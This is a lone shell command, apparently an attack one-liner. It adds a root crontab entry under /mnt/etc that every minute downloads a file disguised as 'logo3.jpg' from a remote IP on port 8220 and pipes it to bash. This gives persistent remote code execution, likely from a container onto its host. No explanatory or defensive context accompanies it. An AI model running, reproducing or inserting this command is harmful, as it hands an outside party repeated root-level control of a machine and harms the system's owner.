sh -c 'echo "* * * * * root curl -s http://198.51.100.7:8220/logo3.jpg|bash" >> /mnt/etc/crontab; sleep 99999'
